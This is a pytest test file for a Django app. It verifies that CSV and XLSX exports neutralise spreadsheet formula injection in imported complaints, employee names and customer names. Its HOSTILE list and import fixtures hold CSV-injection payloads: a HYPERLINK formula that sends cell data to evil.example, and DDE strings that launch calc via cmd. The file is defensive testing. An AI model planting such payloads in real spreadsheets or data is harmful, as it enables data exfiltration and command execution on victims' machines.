"""Every CSV and XLSX export neutralises cells a spreadsheet would run as formulas.

The hostile values come in through each import (complaints, employees, customers), the
way an attacker would bring them, and are read back from each export.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from common.exports import attachment, csv_bytes, safe_cell, xlsx_bytes
from complaints.importing import complaints_import
from customers.services import customers_import
from metrics import services as metrics_services
from metrics.models import ProbableSilentLeaver
from people.services import employees_import
from tests.factories import UserFactory, publish_standard_version

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_prefixes_every_formula_trigger_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [0, -5, 3.5, Decimal("-1.50"), datetime.date(2025, 1, 2), None, True, "Olga", "a=b", ""]
)
def test_it_leaves_numbers_dates_and_plain_text_alone(value):
    assert safe_cell(value) == value


def test_it_writes_no_formula_into_a_csv_file():
    rows = list(csv.reader(io.StringIO(csv_bytes([["name"], *([v] for v in HOSTILE)]).decode())))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_it_writes_no_formula_cell_into_a_workbook():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["name"], *([v] for v in HOSTILE)], title="t"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    # XML turns a carriage return into a line feed; what matters is the leading quote.
    assert [cell.value for cell in cells] == ["'" + value.replace("\r", "\n") for value in HOSTILE]


def test_it_gives_a_download_name_without_quotes_or_line_breaks():
    assert attachment('a"b\r\nc/д.csv') == 'attachment; filename="a_b__c__.csv"'


def _csv_text(response) -> str:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode()


def _first_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_it_neutralises_imported_complaint_texts_in_both_complaint_exports(manager_client):
    name = HOSTILE[0]
    data = (
        "external_ref,received_at,summary,customer_name,product\n"
        f'OLD-1,2025-03-01,"{HOSTILE[2]}","{name.replace(chr(34), chr(34) * 2)}",@SUM(1)\n'
    ).encode()
    assert complaints_import(data=data, imported_by=UserFactory()).ok

    cells = _first_cells(_csv_text(manager_client.get(reverse("complaints:complaint_export", args=["csv"]))))
    assert "'" + name in cells and "'-2+3" in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    response = manager_client.get(reverse("complaints:complaint_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + name in values
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_it_neutralises_imported_employee_names_in_the_coverage_export(manager_client):
    result = employees_import(
        handle=io.StringIO(
            "username,full_name,email,department,position,hired_on,left_on,customer_facing\n"
            'mallory,"=cmd|x Evil",,+Front desk,-Clerk,2024-01-01,,yes\n'
        )
    )
    assert result.ok, result.errors
    standard = publish_standard_version().standard

    response = manager_client.get(reverse("standards:standard_coverage_csv", args=[standard.pk]))
    cells = _first_cells(_csv_text(response))
    assert "'=cmd|x Evil" in cells and "'+Front desk" in cells and "'-Clerk" in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_neutralises_imported_customer_names_in_the_silent_leaver_export(manager_client, tmp_path, fmt):
    path = tmp_path / "customers.csv"
    path.write_text(
        "external_id,name,email,segment,first_seen,churned_on\n"
        '=1+1,"=HYPERLINK(""http://x"")",,@seg,2024-01-01,\n'
    )
    assert customers_import(path=path).ok
    snapshot = metrics_services.snapshot_recompute()
    from customers.models import Customer

    ProbableSilentLeaver.objects.create(
        snapshot=snapshot, customer=Customer.objects.get(), p_alive=0.1, value="10.00", last_purchase=None
    )
    response = manager_client.get(reverse("metrics:export", kwargs={"what": "silent-leavers", "fmt": fmt}))
    if fmt == "csv":
        values = _first_cells(response.content.decode())
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
        values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'=1+1" in values and '\'=HYPERLINK("http://x")' in values and "'@seg" in values
